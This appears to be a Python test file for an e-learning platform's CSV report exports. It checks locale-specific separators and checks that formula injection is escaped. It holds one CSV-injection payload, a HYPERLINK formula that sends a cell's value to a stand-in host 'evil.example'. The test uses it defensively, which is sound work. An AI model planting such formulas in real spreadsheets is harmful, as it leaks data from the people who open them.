"""Downloads as a coordinator's spreadsheet opens them: the same cells as the page, in the
separator of the coordinator's language (or the one they choose), formulas inert."""

import csv
import html
import io
import re
from html.parser import HTMLParser

from elearn.auth.models import CoordinatorScope, Role
from elearn.catalog.services import enrol_self
from elearn.extensions import db
from tests.course_files import import_sample_course

ATTACK = '=HYPERLINK("http://evil.example/?d="&A2,"Giorgi")'


class TableCells(HTMLParser):
    """The header and body cells of the page's first table, as text."""

    def __init__(self):
        super().__init__()
        self.rows: list[list[str]] = []
        self.cell: list[str] | None = None
        self.tables = 0

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self.tables += 1
        if self.tables == 1 and tag == "tr":
            self.rows.append([])
        if self.tables == 1 and tag in ("td", "th"):
            self.cell = []

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self.cell is not None:
            self.rows[-1].append("".join(self.cell))
            self.cell = None

    def handle_data(self, data):
        if self.cell is not None:
            self.cell.append(data)


def page_table(page: str) -> list[list[str]]:
    parser = TableCells()
    parser.feed(page)
    return parser.rows


def spreadsheet(response) -> tuple[str, list[list[str]]]:
    text = response.get_data(as_text=True)
    assert response.mimetype == "text/csv" and text.startswith("\ufeff")
    body = text.removeprefix("\ufeff")
    dialect = csv.Sniffer().sniff(body)
    return dialect.delimiter, list(csv.reader(io.StringIO(body), dialect))


def downloads(page: str) -> list[tuple[str, str, str]]:
    """Each download offered: (its URL, the other separator's URL, that link's label)."""
    found = re.findall(
        r'<span class="downloads">\s*<a href="([^"]+)">[^<]*</a>\s*'
        r'<a href="([^"]+)" class="downloads__other">([^<]*)</a>',
        page,
    )
    return [(html.unescape(url), html.unescape(other), label) for url, other, label in found]


def test_a_georgian_coordinators_download_is_inert_and_separated_by_semicolons(
    tmp_path, browser, users
):
    course = import_sample_course(tmp_path)
    enrol_self(users(country="GE", display_name=ATTACK), course)
    enrol_self(users(country="GE", display_name="Nino"), course)
    db.session.commit()
    coordinator = users(Role.COORDINATOR, country="GE", locale="ka", scope=CoordinatorScope.COUNTRY)
    browser.login(coordinator.email)
    page = browser.get("/reports?course=sample-course").get_data(as_text=True)
    on_screen = page_table(page)

    ((download, other, label),) = downloads(page)
    delimiter, rows = spreadsheet(browser.get(download))
    assert delimiter == ";"
    attacker = next(row for row in rows if "HYPERLINK" in row[0])
    assert attacker[0].startswith("'=HYPERLINK(")
    assert [[cell.removeprefix("'") for cell in row] for row in rows] == on_screen
    for row in rows:
        assert not any(cell.startswith(("=", "+", "@", "-", "\t", "\r")) for cell in row)

    assert label == "CSV მძიმეებით"
    delimiter, comma_rows = spreadsheet(browser.get(other))
    assert delimiter == "," and comma_rows == rows


def test_english_downloads_use_commas_and_offer_semicolons(tmp_path, browser, users):
    course = import_sample_course(tmp_path)
    enrol_self(users(country="UA", display_name="+380 Olena"), course)
    db.session.commit()
    browser.login(users(Role.ADMIN, country="UA").email)
    page = browser.get("/reports?course=sample-course").get_data(as_text=True)
    rows = page_table(page)
    rows[1][0] = "'" + rows[1][0]
    assert rows[1][0].startswith("'+380 Olena")
    ((download, semicolons, label),) = downloads(page)
    assert label == "CSV with semicolons"
    assert spreadsheet(browser.get(download)) == (",", rows)
    assert spreadsheet(browser.get(semicolons)) == (";", rows)
